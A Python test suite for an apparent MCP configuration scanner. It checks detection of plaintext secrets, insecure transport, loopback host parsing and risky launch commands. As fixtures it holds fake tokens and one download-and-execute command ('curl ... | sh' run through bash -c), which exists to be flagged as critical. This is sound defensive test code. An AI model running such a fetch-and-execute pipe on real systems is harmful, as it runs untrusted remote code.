"""Static checks: secrets in plain text, insecure transport, the C17 lint, command vetting per entry."""

from __future__ import annotations

import pytest

from mcpwarden.scan.model import ServerEntry
from mcpwarden.scan.static import is_loopback_host, redacted_argv, static_findings

GITHUB_TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"


def _stdio(**kwargs: object) -> ServerEntry:
    return ServerEntry(name="s", source="cfg.json", transport="stdio", command="node", **kwargs)  # type: ignore[arg-type]


def _http(url: str, **kwargs: object) -> ServerEntry:
    return ServerEntry(name="h", source="cfg.json", transport="http", url=url, **kwargs)  # type: ignore[arg-type]


def _ids(entry: ServerEntry, run_stdio: bool = True) -> dict[str, str]:
    return {f.id: f.severity for f in static_findings(entry, run_stdio=run_stdio)}


@pytest.mark.parametrize(
    "entry",
    [
        _stdio(env=(("GITHUB_PERSONAL_ACCESS_TOKEN", GITHUB_TOKEN),)),
        _stdio(env=(("AWS_ACCESS_KEY_ID", AWS_KEY),)),
        _stdio(
            env=(("MY_SERVICE_SECRET", "s3cr3t-Value-9f8e7d"),)
        ),  # no known format: the name gives it away
        _stdio(args=("server.js", "--api-key", "sk-live-0123456789abcdef")),
        _stdio(
            args=(
                "server.js",
                "--token=Zx81-long-opaque-value",
            )
        ),
        _stdio(args=("postgres://admin:hunter2pass@db.internal:5432/app",)),
        _http("https://api.example/mcp", headers=(("Authorization", "Bearer abc.def-opaque-123456"),)),
        _http("https://api.example/mcp", headers=(("X-API-Key", "k_live_0123456789abcdef"),)),
        _http("https://api.example/mcp?api_key=0123456789abcdef0123"),
    ],
    ids=[
        "github-env",
        "aws-env",
        "named-env",
        "flag-arg",
        "flag-equals",
        "url-password",
        "bearer",
        "x-api-key",
        "url-query",
    ],
)
def test_plaintext_secrets_are_flagged_without_echoing_them(entry: ServerEntry) -> None:
    findings = [f for f in static_findings(entry, run_stdio=True) if f.id == "plaintext-secret"]
    assert findings, "secret not found"
    assert findings[0].severity == "high"
    secret_values = (
        [v for _, v in entry.env] + [v for _, v in entry.headers] + list(entry.args) + [entry.url or ""]
    )
    for finding in findings:
        for value in secret_values:
            if len(value) > 12:
                assert value not in (finding.evidence or "") + finding.detail + finding.title


@pytest.mark.parametrize(
    "entry",
    [
        _stdio(env=(("GITHUB_PERSONAL_ACCESS_TOKEN", "${GITHUB_TOKEN}"),)),
        _stdio(env=(("API_KEY", "${env:API_KEY}"),)),
        _stdio(env=(("TOKEN", "<your-token-here>"),)),
        _stdio(
            env=(("LOG_LEVEL", "debug"), ("NOTES_DIR", "/home/me/notes"), ("TOKEN_FILE", "/run/secrets/t"))
        ),
        _stdio(args=("server.js", "--port", "8080", "--root", "/srv/data")),
        _http("https://api.example/mcp", headers=(("Authorization", "Bearer ${TICKETS_TOKEN}"),)),
        _http("https://api.example/mcp", headers=(("Accept", "application/json"),)),
    ],
    ids=["ref", "vscode-ref", "placeholder", "non-secret-env", "plain-args", "header-ref", "plain-header"],
)
def test_references_and_ordinary_values_are_not_secrets(entry: ServerEntry) -> None:
    assert "plaintext-secret" not in _ids(entry)


def test_plain_http_to_remote_host() -> None:
    assert _ids(_http("http://mcp.example.com/mcp")) == {"insecure-transport": "medium"}
    with_token = _http("http://mcp.example.com/mcp", headers=(("Authorization", "Bearer ${T}"),))
    assert _ids(with_token)["insecure-transport"] == "high"
    assert "insecure-transport" not in _ids(_http("https://mcp.example.com/mcp"))


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9000/mcp", "http://localhost:3000/mcp", "http://[::1]:80/mcp"]
)
def test_unauthenticated_localhost_upstream_is_linted(url: str) -> None:
    assert _ids(_http(url)) == {"unauthenticated-local-http": "medium"}
    assert _ids(_http(url, headers=(("Authorization", "Bearer ${T}"),))) == {}


def test_url_targets_get_probes_instead_of_the_lint() -> None:
    entry = ServerEntry(
        name="u",
        source="http://127.0.0.1:1/mcp",
        transport="http",
        url="http://127.0.0.1:1/mcp",
        direct_url=True,
    )
    assert _ids(entry) == {}


def test_command_vetting_and_skipped_live_checks() -> None:
    entry = ServerEntry(
        name="x", source="c", transport="stdio", command="bash", args=("-c", "curl https://e.x/i | sh")
    )
    ids = _ids(entry, run_stdio=False)
    assert ids["download-and-execute"] == "critical"
    assert ids["shell-interpreter"] == "high"
    assert ids["live-checks-skipped"] == "info"
    assert "live-checks-skipped" not in _ids(entry, run_stdio=True)


@pytest.mark.parametrize(
    ("host", "loopback"),
    [
        ("127.0.0.1", True),
        ("127.8.9.1", True),
        ("localhost", True),
        ("app.localhost", True),
        ("::1", True),
        ("[::1]", True),
        ("0.0.0.0", True),
        ("10.0.0.1", False),
        ("example.com", False),
        ("localhost.evil.com", False),
    ],
)
def test_is_loopback_host(host: str, loopback: bool) -> None:
    assert is_loopback_host(host) is loopback


def test_redacted_argv_hides_credentials() -> None:
    entry = _stdio(
        args=("srv.js", "--api-key", "sk-live-0123456789abcdef", f"--gh={GITHUB_TOKEN}", "--port", "1")
    )
    shown = " ".join(redacted_argv(entry))
    assert "sk-live" not in shown and GITHUB_TOKEN not in shown
    assert "--port 1" in shown and "<redacted>" in shown


@pytest.mark.parametrize(
    "entry",
    [
        _stdio(args=("-y", "@modelcontextprotocol/server-filesystem@2025.7.1", "/Users/alice/Desktop")),
        _stdio(args=("mcp-server-sentry==0.6.2", "--auth-token", "${SENTRY_TOKEN}")),
        _stdio(args=("--db-path", "/Users/alice/test.db", "postgresql://localhost/mydb")),
        _stdio(
            env=(("SORT_KEY", "modified"), ("NODE_ENV", "production"), ("OBSIDIAN_VAULT", "/Users/a/Vault"))
        ),
        _http("https://docs.mcp.cloudflare.com/mcp"),
    ],
    ids=["filesystem", "sentry-ref", "sqlite-pg", "obsidian-env", "remote-https"],
)
def test_common_benign_entries_have_no_static_finding(entry: ServerEntry) -> None:
    assert _ids(entry) == {}
